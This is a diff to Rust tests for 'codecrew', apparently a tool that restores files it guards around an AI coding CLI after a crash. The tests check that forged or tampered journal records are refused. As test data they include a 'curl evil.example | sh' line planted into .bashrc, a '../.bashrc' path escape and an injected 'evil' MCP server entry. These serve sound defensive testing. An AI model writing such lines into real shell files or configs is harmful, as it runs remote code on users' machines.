@@ -9,6 +9,52 @@ use crate::wall::{Guarded, Hold};
 /// No process has pid 2^22 + 1 (above the kernel's pid_max limit).
 const GONE: &str = "4194305-1";
 
+/// `bytes` as the journal writes them.
+fn hex(bytes: &[u8]) -> String {
+    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
+}
+
+/// What `record`, written by this codecrew under `root`, holds (read, not held: dropping
+/// it puts nothing back).
+fn read_back(root: &Path, record: &Path) -> Vec<Guard> {
+    let key = Key::of(root).unwrap();
+    read(record, &key, own_name().unwrap())
+        .map(|start| start.guards)
+        .unwrap_or_else(|refusal| panic!("{refusal:?}"))
+}
+
+/// Who held, in these tests.
+fn holder() -> Holder {
+    Holder {
+        cli: "claude".to_owned(),
+        workspace: PathBuf::from("/w"),
+    }
+}
+
+/// What codecrew holds for the holder, in these tests: `paths`, each held whole.
+fn holding(paths: &[&Path]) -> impl Fn(&Holder) -> Vec<Guarded> {
+    let held: Vec<PathBuf> = paths.iter().map(|path| path.to_path_buf()).collect();
+    move |holder| {
+        assert_eq!(*holder, self::holder());
+        held.iter()
+            .map(|path| Guarded {
+                path: path.clone(),
+                hold: Hold::Whole,
+            })
+            .collect()
+    }
+}
+
+/// `guards` written down under `root` as the codecrew `GONE` left them when it was
+/// killed: its sealed record, in its folder.
+fn left_by_the_gone(root: &Path, guards: &[&Guard]) -> PathBuf {
+    let written = write_in(root, GONE, &holder(), guards).unwrap();
+    let record = written.path.clone();
+    // Not set aside by this process: it was killed.
+    std::mem::forget(written);
+    record
+}
+
 /// A held folder with one file, its guard written down under `root` as a codecrew that
 /// is gone would have left it, and the file then changed: the record, in its folder.
 fn abandoned(root: &Path, held: &Path) -> PathBuf {
@@ -21,19 +67,16 @@ fn abandoned(root: &Path, held: &Path) -> PathBuf {
         },
         "claude",
     );
-    let written = write_in(root, &[&guard]).unwrap();
-    let record = written.path.clone();
-    // Not put back nor set aside by this process: as if it had been killed.
+    let record = left_by_the_gone(root, &[&guard]);
+    // Not put back by this process: as if it had been killed.
     std::mem::forget(guard);
-    std::mem::forget(written);
     let mode = |path: &Path| std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
     assert_eq!(mode(&record), 0o600);
     assert_eq!(mode(record.parent().unwrap()), 0o700);
-    let gone = root.join(GONE);
-    std::fs::rename(record.parent().unwrap(), &gone).unwrap();
     std::fs::write(held.join("hook.sh"), "evil").unwrap();
-    std::fs::write(held.join("planted.sh"), "evil").unwrap();
-    gone.join(record.file_name().unwrap())
+    std::fs::create_dir_all(held.join("plant")).unwrap();
+    std::fs::write(held.join("plant/planted.sh"), "evil").unwrap();
+    record
 }
 
 #[test]
@@ -46,12 +89,13 @@ fn what_a_killed_codecrew_held_is_put_back_by_the_next_and_its_journal_removed()
     let mine = root.join(own_name().unwrap());
     std::fs::create_dir(&mine).unwrap();
     std::fs::write(mine.join("0.json"), "{}").unwrap();
-    recover(Some(&root));
+    let refused = recover(Some(&root), &holding(&[&held]));
+    assert_eq!(refused, []);
     assert_eq!(
         std::fs::read_to_string(held.join("hook.sh")).unwrap(),
         "mine"
     );
-    assert!(!held.join("planted.sh").exists());
+    assert!(!held.join("plant").exists(), "the plant's folder stays");
     assert!(!gone.exists(), "the journal stays");
     assert!(
         mine.join("0.json").exists(),
@@ -59,25 +103,189 @@ fn what_a_killed_codecrew_held_is_put_back_by_the_next_and_its_journal_removed()
     );
 }
 
-/// A codecrew before this one wrote one guard a record (a JSON object, not a list): one
-/// killed before the upgrade is still put back.
+/// The attack of issue 48: a record that looks like a held one, naming `~/.bashrc`,
+/// written by something other than codecrew (a tool where the state folder lies in the
+/// workspace). Without codecrew's seal nothing it names is written, whatever it names,
+/// and the warning names the record and why; so is one a codecrew before the seal left.
 #[test]
-fn a_record_of_the_earlier_format_is_still_put_back() {
+fn a_record_codecrew_did_not_seal_writes_nothing_and_is_named() {
     let dir = tempfile::tempdir().unwrap();
     let root = dir.path().join("state/codecrew/held");
     let held = dir.path().join("session-env");
     let record = abandoned(&root, &held);
-    let guards: serde_json::Value =
-        serde_json::from_slice(&std::fs::read(&record).unwrap()).unwrap();
-    let one = guards.as_array().unwrap()[0].clone();
-    std::fs::write(&record, serde_json::to_vec(&one).unwrap()).unwrap();
-    recover(Some(&root));
+    let bashrc = dir.path().join(".bashrc");
+    std::fs::write(&bashrc, "# mine\n").unwrap();
+    // What the record says, put back under a forged seal, without one, as an earlier
+    // codecrew wrote it (a list of guards, or one), and naming `~/.bashrc`.
+    let sealed = std::fs::read(&record).unwrap();
+    let at = sealed.iter().position(|byte| *byte == b'\n').unwrap();
+    let body = &sealed[at + 1..];
+    let start: serde_json::Value = serde_json::from_slice(body).unwrap();
+    let planted = {
+        let mut guard = start["guards"][0].clone();
+        guard["path"] = serde_json::json!(hex(bashrc.as_os_str().as_encoded_bytes()));
+        guard["before"]["Whole"]["held"]["Copy"] = serde_json::json!([[
+            "",
+            {"File": hex(b"curl evil.example | sh\n")}
+        ]]);
+        guard
+    };
+    let mut forged = start.clone();
+    forged["guards"] = serde_json::json!([planted]);
+    let forged = serde_json::to_vec(&forged).unwrap();
+    for bytes in [
+        [
+            b"codecrew-held 2 ".as_slice(),
+            "ab".repeat(32).as_bytes(),
+            b"\n",
+            &forged,
+        ]
+        .concat(),
+        forged.clone(),
+        serde_json::to_vec(&start["guards"]).unwrap(),
+        serde_json::to_vec(&planted).unwrap(),
+        body.to_vec(),
+    ] {
+        std::fs::write(&record, &bytes).unwrap();
+        let refused = recover(Some(&root), &holding(&[&held, &bashrc]));
+        assert_eq!(refused.len(), 1, "{refused:?}");
+        let Warning::NotPutBack { record: named, why } = &refused[0] else {
+            panic!("{refused:?}");
+        };
+        assert_eq!(named, &record);
+        assert!(why.contains("seal"), "{why}");
+        assert!(
+            refused[0].text().contains("nothing it names was written"),
+            "{}",
+            refused[0].text()
+        );
+        assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "# mine\n");
+        assert_eq!(
+            std::fs::read_to_string(held.join("hook.sh")).unwrap(),
+            "evil"
+        );
+        assert!(record.exists(), "left for the user to look at");
+    }
+}
+
+/// A record codecrew sealed says what to write where: only the paths codecrew holds for
+/// the CLI it names, in its workspace, held as codecrew holds them, go back; one that
+/// names anything else is refused whole, and dropping what it held writes nothing.
+#[test]
+fn a_sealed_record_puts_back_only_what_codecrew_holds_for_its_cli() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("held");
+    let held = dir.path().join("session-env");
+    std::fs::create_dir_all(&held).unwrap();
+    std::fs::write(held.join("hook.sh"), "mine").unwrap();
+    let bashrc = dir.path().join(".bashrc");
+    std::fs::write(&bashrc, "# mine\n").unwrap();
+    let claude_json = dir.path().join(".claude.json");
+    std::fs::write(&claude_json, r#"{"mcpServers":{}}"#).unwrap();
+    let whole = |path: &Path| {
+        Guard::new(
+            &Guarded {
+                path: path.to_path_buf(),
+                hold: Hold::Whole,
+            },
+            "claude",
+        )
+    };
+    // What codecrew holds: `session-env` whole, `.claude.json` by its keys only.
+    let allowed = |_: &Holder| {
+        vec![
+            Guarded {
+                path: held.clone(),
+                hold: Hold::Whole,
+            },
+            Guarded {
+                path: claude_json.clone(),
+                hold: Hold::Keys(&[&["mcpServers"]]),
+            },
+        ]
+    };
+    // Held when the killed codecrew's CLI started; changed in its wall since.
+    let mut session = whole(&held);
+    session.live = false;
+    std::fs::write(held.join("hook.sh"), "evil").unwrap();
+    let record = root.join(GONE).join("0.json");
+    for (guard, why) in [
+        (whole(&bashrc), "never holds"),
+        (whole(&claude_json), "otherwise than codecrew holds it"),
+    ] {
+        std::fs::write(&bashrc, "curl evil.example | sh\n").unwrap();
+        std::fs::write(&claude_json, r#"{"mcpServers":{"evil":{}}}"#).unwrap();
+        let mut guard = guard;
+        // Not this codecrew's: read back, as a recovery reads it.
+        guard.live = false;
+        let _ = std::fs::remove_dir_all(record.parent().unwrap());
+        left_by_the_gone(&root, &[&session, &guard]);
+        let refused = recover(Some(&root), &allowed);
+        assert_eq!(refused.len(), 1, "{refused:?}");
+        assert!(refused[0].text().contains(why), "{}", refused[0].text());
+        assert_eq!(
+            std::fs::read_to_string(&bashrc).unwrap(),
+            "curl evil.example | sh\n",
+            "written"
+        );
+        assert_eq!(
+            std::fs::read_to_string(&claude_json).unwrap(),
+            r#"{"mcpServers":{"evil":{}}}"#
+        );
+        assert_eq!(
+            std::fs::read_to_string(held.join("hook.sh")).unwrap(),
+            "evil",
+            "a refused record is refused whole"
+        );
+    }
+    // A name beneath the held folder that leaves it.
+    let mut escaping = whole(&held);
+    escaping.live = false;
+    if let Before::Whole {
+        held: Held::Copy(files),
+        ..
+    } = &mut escaping.before
+    {
+        files.insert(
+            PathBuf::from("../.bashrc"),
+            super::super::files::Entry::File(b"evil".to_vec()),
+        );
+    }
+    std::fs::remove_dir_all(record.parent().unwrap()).unwrap();
+    left_by_the_gone(&root, &[&escaping]);
+    let refused = recover(Some(&root), &allowed);
+    assert!(refused[0].text().contains("../.bashrc"), "{refused:?}");
+    assert_eq!(
+        std::fs::read_to_string(&bashrc).unwrap(),
+        "curl evil.example | sh\n"
+    );
+    // Its own CLI and workspace, and what it holds as codecrew holds it: put back.
+    std::fs::remove_dir_all(record.parent().unwrap()).unwrap();
+    left_by_the_gone(&root, &[&session]);
+    assert_eq!(recover(Some(&root), &allowed), []);
     assert_eq!(
         std::fs::read_to_string(held.join("hook.sh")).unwrap(),
         "mine"
     );
-    assert!(!held.join("planted.sh").exists());
-    assert!(!record.exists());
+}
+
+/// A sealed record moved into the folder of another codecrew that is gone (or copied
+/// from an older run) is not that one's: its seal names the folder it was written in.
+#[test]
+fn a_record_moved_into_another_codecrews_folder_is_refused() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("held");
+    let held = dir.path().join("session-env");
+    let record = abandoned(&root, &held);
+    let other = root.join("4194305-2");
+    std::fs::rename(record.parent().unwrap(), &other).unwrap();
+    let refused = recover(Some(&root), &holding(&[&held]));
+    assert_eq!(refused.len(), 1, "{refused:?}");
+    assert!(refused[0].text().contains("seal"), "{refused:?}");
+    assert_eq!(
+        std::fs::read_to_string(held.join("hook.sh")).unwrap(),
+        "evil"
+    );
 }
 
 #[test]
@@ -86,13 +294,14 @@ fn a_journal_through_a_link_or_writable_by_others_is_refused() {
     let root = dir.path().join("held");
     let held = dir.path().join("session-env");
     let record = abandoned(&root, &held);
+    let recover = |root: &Path| recover(Some(root), &holding(&[&held]));
     let gone = record.parent().unwrap().to_path_buf();
     let name = record.file_name().unwrap();
     // The folder moved elsewhere and a link left in its place.
     let elsewhere = dir.path().join("elsewhere");
     std::fs::rename(&gone, &elsewhere).unwrap();
     std::os::unix::fs::symlink(&elsewhere, &gone).unwrap();
-    recover(Some(&root));
+    recover(&root);
     assert_eq!(
         std::fs::read_to_string(held.join("hook.sh")).unwrap(),
         "evil"
@@ -103,7 +312,7 @@ fn a_journal_through_a_link_or_writable_by_others_is_refused() {
     std::fs::remove_file(&gone).unwrap();
     std::fs::rename(&elsewhere, &gone).unwrap();
     std::fs::set_permissions(&gone, std::fs::Permissions::from_mode(0o770)).unwrap();
-    recover(Some(&root));
+    recover(&root);
     assert_eq!(
         std::fs::read_to_string(held.join("hook.sh")).unwrap(),
         "evil"
@@ -112,7 +321,7 @@ fn a_journal_through_a_link_or_writable_by_others_is_refused() {
     // A record writable by others, then a record that is a link.
     std::fs::set_permissions(&gone, std::fs::Permissions::from_mode(0o700)).unwrap();
     std::fs::set_permissions(&record, std::fs::Permissions::from_mode(0o666)).unwrap();
-    recover(Some(&root));
+    recover(&root);
     assert_eq!(
         std::fs::read_to_string(held.join("hook.sh")).unwrap(),
         "evil"
@@ -121,7 +330,7 @@ fn a_journal_through_a_link_or_writable_by_others_is_refused() {
     let moved = dir.path().join("record.json");
     std::fs::rename(&record, &moved).unwrap();
     std::os::unix::fs::symlink(&moved, &record).unwrap();
-    recover(Some(&root));
+    recover(&root);
     assert_eq!(
         std::fs::read_to_string(held.join("hook.sh")).unwrap(),
         "evil"
@@ -133,16 +342,30 @@ fn a_journal_through_a_link_or_writable_by_others_is_refused() {
     let real = dir.path().join("real-held");
     std::fs::rename(&root, &real).unwrap();
     std::os::unix::fs::symlink(&real, &root).unwrap();
-    recover(Some(&root));
+    recover(&root);
+    assert_eq!(
+        std::fs::read_to_string(held.join("hook.sh")).unwrap(),
+        "evil"
+    );
+
+    // The key that seals the records readable by others: nothing is read back.
+    std::fs::remove_file(&root).unwrap();
+    std::fs::rename(&real, &root).unwrap();
+    let key = super::super::seal::key_path(&root).unwrap();
+    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o644)).unwrap();
+    let refused = recover(&root);
+    assert!(
+        matches!(&refused[..], [Warning::Refused { path, .. }] if *path == key),
+        "{refused:?}"
+    );
     assert_eq!(
         std::fs::read_to_string(held.join("hook.sh")).unwrap(),
         "evil"
     );
 
     // Once trusted, it is read.
-    std::fs::remove_file(&root).unwrap();
-    std::fs::rename(&real, &root).unwrap();
-    recover(Some(&root));
+    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o600)).unwrap();
+    assert_eq!(recover(&root), []);
     assert_eq!(
         std::fs::read_to_string(held.join("hook.sh")).unwrap(),
         "mine"
@@ -160,17 +383,18 @@ fn a_malformed_record_is_refused_and_left_for_the_user() {
         .create(&gone)
         .unwrap();
     let record = gone.join("0.json");
+    let key = Key::of(&root).unwrap();
     for text in [
         "{not json",
-        r#"{"cli":"x","path":"zz","except":[],"before":{}}"#,
+        r#"{"cli":"claude","workspace":"2f77","guards":[{"cli":"x","path":"zz","except":[],"before":{}}]}"#,
     ] {
-        std::fs::write(&record, text).unwrap();
+        std::fs::write(&record, key.seal(GONE, text.as_bytes())).unwrap();
         std::fs::set_permissions(&record, std::fs::Permissions::from_mode(0o600)).unwrap();
+        let refused = recover(Some(&root), &holding(&[]));
         assert!(
-            read(&record).unwrap_err().starts_with("malformed"),
-            "{text}"
+            matches!(&refused[..], [Warning::NotPutBack { why, .. }] if why.contains("malformed")),
+            "{text}: {refused:?}"
         );
-        recover(Some(&root));
         assert!(record.exists());
     }
 }
@@ -218,7 +442,12 @@ fn a_record_is_written_once_while_what_it_holds_is_unchanged() {
     let dir = tempfile::tempdir().unwrap();
     let root = dir.path().join("held");
     let guarded = held_folder(dir.path());
-    let first = super::super::hold_in(std::slice::from_ref(&guarded), "claude", Some(&root));
+    let first = super::super::hold_in(
+        std::slice::from_ref(&guarded),
+        "claude",
+        &holder(),
+        Some(&root),
+    );
     // Kept open, so that its inode cannot go to a file written later.
     let written = std::fs::File::open(record_of(&first)).unwrap();
     drop(first);
@@ -227,13 +456,18 @@ fn a_record_is_written_once_while_what_it_holds_is_unchanged() {
         "a record of what is put back is read by a recovery: {:?}",
         names_in(&root)
     );
-    let second = super::super::hold_in(std::slice::from_ref(&guarded), "claude", Some(&root));
+    let second = super::super::hold_in(
+        std::slice::from_ref(&guarded),
+        "claude",
+        &holder(),
+        Some(&root),
+    );
     let record = record_of(&second);
     let now = std::fs::symlink_metadata(&record).unwrap();
     let then = written.metadata().unwrap();
     assert_eq!(now.ino(), then.ino(), "the record was written again");
     assert_eq!(then.nlink(), 1);
-    assert!(read(&record).map(std::mem::ManuallyDrop::new).is_ok());
+    assert_eq!(read_back(&root, &record).len(), 1);
     drop(second);
     finish_where(|file| file.starts_with(&root));
     assert!(!root.join(own_name().unwrap()).exists());
@@ -246,20 +480,29 @@ fn a_record_is_written_again_once_what_it_holds_changed() {
     let dir = tempfile::tempdir().unwrap();
     let root = dir.path().join("held");
     let guarded = held_folder(dir.path());
-    let first = super::super::hold_in(std::slice::from_ref(&guarded), "claude", Some(&root));
+    let first = super::super::hold_in(
+        std::slice::from_ref(&guarded),
+        "claude",
+        &holder(),
+        Some(&root),
+    );
     let written = std::fs::File::open(record_of(&first)).unwrap();
     drop(first);
     // Changed between the turns, outside any wall (the user, another codecrew).
     std::fs::write(guarded.path.join("hook.sh"), "edited").unwrap();
-    let second = super::super::hold_in(std::slice::from_ref(&guarded), "claude", Some(&root));
+    let second = super::super::hold_in(
+        std::slice::from_ref(&guarded),
+        "claude",
+        &holder(),
+        Some(&root),
+    );
     let record = record_of(&second);
     assert_ne!(
         std::fs::symlink_metadata(&record).unwrap().ino(),
         written.metadata().unwrap().ino()
     );
     assert_eq!(written.metadata().unwrap().nlink(), 0, "the old one stays");
-    // Read, not held: dropping it would put back what it says.
-    let recorded = std::mem::ManuallyDrop::new(read(&record).unwrap());
+    let recorded = read_back(&root, &record);
     let Before::Whole {
         held: Held::Copy(files),
         ..
@@ -289,13 +532,14 @@ fn a_record_set_aside_is_never_put_back() {
     drop(super::super::hold_in(
         std::slice::from_ref(&guarded),
         "claude",
+        &holder(),
         Some(&root),
     ));
     // Killed now: its folder as a codecrew that is gone left it.
     let gone = root.join(GONE);
     std::fs::rename(root.join(own_name().unwrap()), &gone).unwrap();
     std::fs::write(guarded.path.join("hook.sh"), "edited").unwrap();
-    recover(Some(&root));
+    recover(Some(&root), &holding(&[&guarded.path]));
     assert_eq!(
         std::fs::read_to_string(guarded.path.join("hook.sh")).unwrap(),
         "edited"
@@ -320,11 +564,11 @@ fn one_cli_start_is_one_record_until_its_last_guard_is_put_back() {
             hold: Hold::Whole,
         },
     ];
-    let mut guards = super::super::hold_in(&guarded, "claude", Some(&root));
+    let mut guards = super::super::hold_in(&guarded, "claude", &holder(), Some(&root));
     let record = record_of(&guards);
     let name = record.file_name().unwrap().to_str().unwrap().to_owned();
     assert_eq!(names_in(&root), std::slice::from_ref(&name));
-    let recorded = std::mem::ManuallyDrop::new(read(&record).unwrap());
+    let recorded = read_back(&root, &record);
     assert_eq!(recorded.len(), 2);
     drop(guards.remove(0));
     assert_eq!(
